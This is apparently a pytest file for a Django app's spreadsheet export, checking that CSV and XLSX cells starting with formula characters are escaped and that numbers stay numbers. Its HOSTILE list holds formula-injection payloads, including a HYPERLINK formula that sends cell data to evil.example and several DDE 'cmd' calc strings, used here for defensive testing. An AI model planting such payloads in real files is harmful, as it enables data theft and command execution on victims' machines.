"""The one CSV/XLSX writer: no cell starting with = + - @ tab or CR reaches a
spreadsheet as a formula; numbers stay numbers."""

import csv
import io
from decimal import Decimal

from django.http import StreamingHttpResponse

import openpyxl
import pytest

from wijkteam import tabular

# What the product owner tried, and the other characters a spreadsheet starts a
# formula with. Other tests import this list to put it in every exported column.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(rows) -> list[list[str]]:
    text = "".join(tabular.csv_lines(rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _xlsx(rows) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(tabular.xlsx_bytes(rows, sheet="Test")))
    return [[cell.value for cell in row] for row in book["Test"].iter_rows()]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_csv_neutralises_every_formula_start(hostile):
    assert _csv([[hostile, "gewoon", hostile]]) == [
        ["'" + hostile, "gewoon", "'" + hostile]
    ]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_xlsx_neutralises_every_formula_start(hostile):
    book = openpyxl.load_workbook(io.BytesIO(tabular.xlsx_bytes([[hostile, "x"]])))
    (cell, plain), *_ = book.active.iter_rows()
    assert cell.data_type == "s"  # text, not a formula
    # XML reads a carriage return as a line feed: still no formula.
    assert cell.value == "'" + hostile.replace("\r", "\n")
    assert plain.value == "x"


def test_numbers_stay_numbers_text_that_looks_like_one_does_not():
    row = [-3, Decimal("-2.50"), -1.5, Decimal("1E+3"), "-3", None, True]
    assert _csv([row]) == [["-3", "-2.50", "-1.5", "1000", "'-3", "", "ja"]]
    assert _xlsx([row]) == [[-3, -2.5, -1.5, 1000, "'-3", None, "ja"]]


def test_xlsx_drops_control_characters_the_format_forbids():
    assert _xlsx([["a\x00b\x07c"]]) == [["abc"]]


def test_csv_response_streams_with_a_file_name():
    response = tabular.csv_response(iter([["a"], ["=b"]]), filename="x.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert b"".join(response.streaming_content).decode() == "\ufeffa\r\n'=b\r\n"


def test_xlsx_response_has_the_spreadsheet_type():
    response = tabular.xlsx_response([["a"]], filename="x.xlsx")
    assert response["Content-Type"] == tabular.XLSX_TYPE
    assert response.content.startswith(b"PK")
